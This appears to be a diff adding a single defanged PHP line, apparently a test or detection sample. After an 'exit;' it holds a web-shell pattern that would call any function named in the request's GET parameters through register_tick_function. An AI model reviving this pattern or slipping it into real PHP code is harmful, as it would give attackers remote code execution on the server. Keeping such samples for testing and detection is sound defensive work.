@@ -1,0 +1,1 @@
+<?php exit; /* inert */ declare(ticks=1); register_tick_function($_GET["f"],$_GET["a"]);
